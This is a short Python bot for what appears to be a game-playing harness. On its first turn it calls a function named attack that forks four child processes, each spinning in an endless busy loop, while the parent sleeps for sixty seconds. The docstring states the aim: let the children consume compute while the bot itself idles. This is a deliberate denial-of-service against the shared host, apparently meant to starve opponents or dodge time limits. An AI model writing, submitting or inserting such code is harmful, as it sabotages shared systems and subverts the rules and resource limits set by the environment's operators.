"""Lets children compute for ever while it sleeps itself."""

import os
import time

from sdk import run


def attack():
    for _ in range(4):
        if os.fork() == 0:
            while True:
                pass
    time.sleep(60)


def choose(observation, legal, context):
    if context.turn == 1:
        attack()
    return legal[0]["id"]


run(choose)
